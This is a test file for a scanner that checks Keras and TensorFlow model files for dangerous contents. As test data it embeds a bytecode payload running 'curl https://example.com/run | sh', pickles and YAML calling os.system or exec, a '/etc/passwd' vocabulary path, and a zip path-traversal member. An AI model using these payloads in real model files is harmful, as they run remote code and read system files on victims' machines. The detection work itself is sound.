import { File, ready } from 'h5wasm';
import { describe, expect, test } from 'vitest';
import { readMarshalledCode } from '../../src/clinic/evidence/files/marshal.ts';
import { readFacts } from '../../src/clinic/evidence/files/read.ts';
import { forecast } from '../../src/clinic/forecast/forecast.ts';
import { groupRisks } from '../../src/clinic/report/security.ts';
import {
	around,
	bytesOf,
	declaring,
	evilCode,
	evilPickles,
	field,
	harmlessPickle,
	hostileFiles,
	linkedWeights,
} from './hostile.ts';
import { factsOf, factsOfFixture, healthyMembers, inMemory, zipOf } from './support.ts';

test.each(await hostileFiles())(
	'$name is told as $risk',
	async ({ name, content, risk, quote }) => {
		const path = name.replace('/', '-');
		const all = await readFacts([inMemory(path, content)], { weights: true });
		const places = all.flatMap(({ risks }) => risks).filter(({ id }) => id === risk);
		expect(places.map((place) => place.quote).join()).toContain(quote);
	},
);

test('a link of HDF5 into another file is told and not followed', async () => {
	const facts = await factsOf(inMemory('model.weights.h5', await linkedWeights()));
	expect(facts).toMatchObject({ format: 'weights-h5', weights: { parameters: 2 } });
	expect(groupRisks(facts)).toMatchObject([
		{
			id: 'hdf5-outside',
			places: [{ where: 'layers/dense/vars/1' }],
			vulnerabilities: [{ cve: 'CVE-2026-1669' }],
		},
	]);
});

test('a link within the file, and a group in the place of a dataset, are told', async () => {
	const { FS } = await ready;
	const file = new File('/soft.h5', 'w');
	const group = file.create_group('layers').create_group('dense').create_group('vars');
	group.create_dataset({ name: '0', data: new Float32Array(2), shape: [2] });
	group.create_soft_link('/layers/dense/vars/0', '1');
	group.create_group('2');
	file.close();
	const { weights, risks } = await factsOf(inMemory('model.weights.h5', FS.readFile('/soft.h5')));
	expect(weights?.refused).toEqual([
		{ path: 'layers/dense/vars/1', why: 'link' },
		{ path: 'layers/dense/vars/2', why: 'no-dataset' },
	]);
	expect(risks).toEqual([]);
});

test.each([
	['300 MiB that must be unpacked', 300, 'fails'],
	['200 MiB', 200, 'loads'],
])('a member that declares %s from a few bytes', async (_, mebibytes, verdict) => {
	const members = { ...healthyMembers(), 'assets/dense/x.txt': 'x'.repeat(99) };
	const packed = await zipOf(members, { level: 6 });
	const archive = declaring(packed, 'assets/dense/x.txt', mebibytes * 1024 ** 2);
	const facts = await factsOf(inMemory('model.keras', archive));
	expect(facts.risks.map(({ id }) => id)).toEqual(
		verdict === 'fails' ? ['archive-declared-size'] : [],
	);
	const newest = forecast(facts, [], []).find(({ target }) => target === 'keras@3.15');
	expect(newest?.verdict).toBe(verdict);
});

async function risksOf(inner: object) {
	const { risks } = await factsOf(inMemory('model.json', around(inner)));
	return risks.map(({ id, where, quote }) => [id, where, quote]);
}

describe('a configuration', () => {
	test('may name what Keras 2 takes from TensorFlow, and nothing else of it', async () => {
		const named = (module: string, class_name: string) =>
			risksOf({ module, class_name, config: { name: 'one' } });
		expect(await named('tensorflow.python.ops.init_ops_v2', 'Constant')).toEqual([]);
		expect(await named('tensorflow.keras.layers', 'Dense')).toEqual([]);
		expect(
			(await named('tensorflow.io', 'write_file')).map(([id, , quote]) => [id, quote]),
		).toEqual([['module-outside-keras', 'tensorflow.io.write_file']]);
	});

	test('with bytecode tells what the code refers to, without running it', async () => {
		for (const called of [
			{ class_name: '__lambda__', config: { code: evilCode, defaults: null, closure: null } },
			[evilCode, null, null],
			// In the keras_metadata.pb of a SavedModel.
			{ class_name: '__tuple__', items: [evilCode, null, null] },
		]) {
			const { risks } = await factsOf(
				inMemory(
					'model.json',
					around({
						module: 'keras.layers',
						class_name: 'Lambda',
						config: { name: 'inner', function: called },
					}),
				),
			);
			expect(risks).toHaveLength(1);
			expect(risks[0]).toMatchObject({
				id: 'lambda-bytecode',
				where: 'inner',
				code: {
					names: ['__import__', 'system'],
					strings: ['os', 'curl https://example.com/run | sh'],
					filename: '<stdin>',
					python: '3.11 or later',
				},
			});
		}
	});

	test.each([
		[
			{ module: 'os', class_name: 'function', config: 'system', registered_name: 'system' },
			['module-outside-keras', 'outer', 'os.system'],
		],
		[
			{ module: 'builtins', class_name: 'exec', config: { name: 'x' } },
			['module-outside-keras', 'x', 'builtins.exec'],
		],
		[
			{ module: 'keras.utils', class_name: 'get_file', config: { fname: 'x' } },
			['function-of-keras', 'outer', 'keras.utils.get_file'],
		],
		[
			{ module: 'builtins', class_name: 'function', config: 'eval', registered_name: 'eval' },
			['module-outside-keras', 'outer', 'builtins.eval'],
		],
		[
			{ module: 'keras.models', class_name: 'function', config: 'load_model' },
			['function-of-keras', 'outer', 'keras.models.load_model'],
		],
		[
			{ module: 'keras.config', class_name: 'function', config: 'enable_unsafe_deserialization' },
			['unsafe-mode-enabled', 'outer', 'keras.config.enable_unsafe_deserialization'],
		],
		[
			{ module: 'keras.layers', class_name: 'TorchModuleWrapper', config: { name: 'torch' } },
			['torch-module', 'torch', 'TorchModuleWrapper'],
		],
		[
			{ module: 'keras.layers', class_name: 'TFSMLayer', config: { name: 't', filepath: 'sm' } },
			['saved-model-layer', 't', 'filepath: sm'],
		],
		[
			{
				module: 'keras.layers',
				class_name: 'StringLookup',
				config: { name: 's', vocabulary: '/etc/passwd' },
			},
			['vocabulary-path', 's', 'vocabulary: /etc/passwd'],
		],
		[
			{ class_name: 'Lambda', config: { name: 'l', function: 'lambda x: eval("x")' } },
			['lambda-source', 'l', 'lambda x: eval("x")'],
		],
	])('with %j tells it', async (inner, expected) => {
		expect(await risksOf(inner)).toEqual([expected]);
	});

	test('may name the function of a Lambda', async () => {
		for (const named of ['relu', 'package>my_function']) {
			expect(
				await risksOf({ class_name: 'Lambda', config: { name: 'l', function: named } }),
			).toEqual([]);
		}
	});

	test('of Keras alone has nothing to tell', async () => {
		for (const name of ['healthy.keras', 'k215_mobilenetish.h5', 'savedmodel_dir']) {
			expect((await factsOfFixture(name)).risks, name).toEqual([]);
		}
	});
});

test('code that cannot be followed still shows its texts', () => {
	const bytes = Buffer.from(evilCode, 'base64');
	const cut = readMarshalledCode(new Uint8Array(bytes.subarray(0, 150)));
	expect(cut.python).toBeNull();
	expect(cut.strings.join()).toContain('curl https://example.com/run');
	for (let length = 0; length < bytes.length; length++) {
		expect(() => readMarshalledCode(new Uint8Array(bytes.subarray(0, length)))).not.toThrow();
	}
});

test.each(Object.entries(evilPickles))(
	'a pickle of protocol %s tells what it asks Python for',
	async (_, bytes) => {
		const facts = await factsOf(inMemory('model.h5', bytes));
		expect(facts).toMatchObject({
			format: 'pickle',
			risks: [{ id: 'pickle', quote: 'posix.system' }],
		});
	},
);

test('a pickle that asks for nothing runs nothing', async () => {
	const facts = await factsOf(inMemory('model.pkl', harmlessPickle));
	expect(facts).toMatchObject({ format: 'pickle', risks: [] });
	const cut = await factsOf(inMemory('model.pkl', harmlessPickle.subarray(0, -1)));
	expect(cut.risks).toMatchObject([{ id: 'pickle', quote: 'PROTO 4' }]);
	// EXT1 names nothing: what is meant is registered in Python.
	const registered = await factsOf(inMemory('model.pkl', Uint8Array.of(0x80, 2, 0x82, 7, 0x2e)));
	expect(registered.risks).toMatchObject([{ id: 'pickle', quote: 'PROTO 2' }]);
});

test('what a pickle finds in what it found has no name that could be told', async () => {
	const stackGlobal = Uint8Array.of(0x93);
	const found = bytesOf('Vtorch\nV_utils\n', stackGlobal, 'Vexec\n', stackGlobal);
	const pickle = bytesOf(Uint8Array.of(0x80, 4), found, '.');
	const { risks } = await factsOf(inMemory('model.pkl', pickle));
	expect(risks).toMatchObject([{ id: 'pickle', quote: 'torch._utils, ?.exec' }]);
});

test.each([
	[
		'a name from the memo, with bytes of no text, and more behind its end',
		'Vos\np2\n0Vsystem\np3\n0g2\ng3\n\x93(Vid\ntR.\n\n\t',
		'os.system',
	],
	['quoted names', "S'os'\nS'system'\n\x93S'ls'\n\x85R.", 'os.system'],
	['a beginning that breaks off', 'cbuiltins\nexec\n(X>\nprint(1)', 'builtins.exec'],
])('a pickle without a mark is known by %s', async (_, text, quote) => {
	const bytes = Uint8Array.from(text, (mark) => mark.charCodeAt(0));
	expect(await factsOf(inMemory('model.pkl', bytes))).toMatchObject({
		format: 'pickle',
		risks: [{ id: 'pickle', quote }],
	});
});

test.each(['cat\ndog\nand so on. Then more.\n', 'def f(x):\n\treturn x.\n', '(a list)\n.\nb.R\n'])(
	'%j is no pickle',
	async (text) => {
		expect((await factsOf(inMemory('notes.txt', text))).format).toBe('text');
	},
);

test('an operation that reaches out is found in the graph, whatever list it states of itself', async () => {
	const node = Uint8Array.of(...field(1, 'x'), ...field(2, 'EagerPyFunc'));
	const hidden = field(2, field(1, field(3, node)));
	const graph = Uint8Array.of(
		...field(1, Uint8Array.of(...field(1, 'c'), ...field(2, 'Const'))),
		...hidden,
	);
	const found = [expect.objectContaining({ id: 'graph-operation', quote: 'EagerPyFunc' })];
	const savedModel = Uint8Array.of(8, 1, ...field(2, field(2, graph)));
	expect((await factsOf(inMemory('saved_model.pb', savedModel))).risks).toEqual(found);
	expect(await factsOf(inMemory('graph.bin', savedModel))).toMatchObject({
		format: 'saved-model',
		risks: found,
	});
	const frozen = await factsOf(inMemory('frozen.pb', graph));
	expect(frozen).toMatchObject({ format: 'frozen-graph', risks: found });
});

test('a program or a pickle in a .keras is told, in an archive of a project it is not', async () => {
	const besides = { 'run.py': 'x', 'data.pkl': 'x', 'assets/words.txt': 'x' };
	const told = await factsOf(inMemory('m.keras', await zipOf({ ...healthyMembers(), ...besides })));
	expect(told.risks.map(({ id, where }) => [id, where])).toEqual([
		['archive-program', 'run.py'],
		['archive-program', 'data.pkl'],
	]);
	const below = Object.fromEntries(
		Object.entries(healthyMembers()).map(([path, content]) => [`project/${path}`, content]),
	);
	const project = await zipOf({ ...below, 'train.py': 'x' });
	expect((await factsOf(inMemory('project.zip', project))).risks).toEqual([]);
});

test('paths that leave an archive, and YAML that calls Python, are told', async () => {
	const archive = await zipOf({ ...healthyMembers(), '../../evil.txt': 'x' });
	const facts = await factsOf(inMemory('model.keras', archive));
	expect(facts.risks).toEqual([
		{ id: 'archive-path', where: '../../evil.txt', quote: '../../evil.txt' },
	]);
	const yaml =
		'class_name: Sequential\nconfig:\n  layers: []\n  x: !!python/object/apply:os.system [id]\n';
	expect((await factsOf(inMemory('m.yaml', yaml))).risks).toMatchObject([
		{ id: 'yaml-object', quote: '!!python/object/apply:os.system' },
	]);
});

test('the weakness of .h5 files is named for them alone', async () => {
	const lambda = { class_name: 'Lambda', config: { name: 'l', function: [evilCode, null, null] } };
	const facts = await factsOf(inMemory('model.json', around(lambda)));
	const cves = (format: typeof facts.format) =>
		groupRisks({ ...facts, format })[0]?.vulnerabilities.map(({ cve }) => cve);
	expect(cves('legacy-h5')).toEqual(['CVE-2025-9905', 'CVE-2024-3660']);
	expect(cves('keras-v3')).toEqual(['CVE-2024-3660']);
});
